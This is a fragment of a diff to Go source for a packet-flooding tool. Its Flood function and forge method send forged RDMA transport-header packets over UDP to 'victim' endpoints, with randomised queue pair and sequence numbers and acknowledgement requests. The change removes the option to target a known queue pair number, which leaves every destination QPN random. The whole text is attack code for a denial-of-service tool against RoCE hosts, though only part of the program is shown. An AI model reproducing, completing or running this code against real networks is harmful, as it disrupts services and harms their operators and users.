@@ -23,8 +23,6 @@ import (
 type Aim struct {
 	From netip.Addr
 	To   netip.AddrPort
-	// QPN returns the number of a queue pair that is known; nil stands for random ones.
-	QPN func() uint32
 }
 
 // Sent is what went out.
@@ -45,7 +43,7 @@ func Flood(ctx context.Context, aims []Aim) (s Sent, err error) {
 			return s, err
 		}
 		defer func() { _ = conn.Close() }()
-		victims[i] = &victim{qpn: a.QPN, conn: conn, dst: udp.NewSockaddr(a.To), flow: wire.NewFlow(conn.LocalAddr(), a.To)}
+		victims[i] = &victim{conn: conn, dst: udp.NewSockaddr(a.To), flow: wire.NewFlow(conn.LocalAddr(), a.To)}
 	}
 	rng := rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64()))
 	start := time.Now()
@@ -63,7 +61,6 @@ func Flood(ctx context.Context, aims []Aim) (s Sent, err error) {
 
 // victim is an endpoint, and the packets for it.
 type victim struct {
-	qpn  func() uint32
 	conn *udp.Conn
 	dst  udp.Sockaddr
 	flow wire.Flow
@@ -97,9 +94,6 @@ func (v *victim) forge(rng *rand.Rand, n int) []udp.Message {
 		b := v.buf[i*size:][:size]
 		r := rng.Uint64()
 		f := wire.BTHFields{Opcode: k.opcode, PKey: wire.DefaultPKey, DestQPN: uint32(r) & wire.PSNMask, PSN: uint32(r>>24) & wire.PSNMask, AckReq: true}
-		if v.qpn != nil {
-			f.DestQPN = v.qpn()
-		}
 		wire.BTH(b).Encode(&f)
 		switch {
 		case k.opcode == wire.Acknowledge:
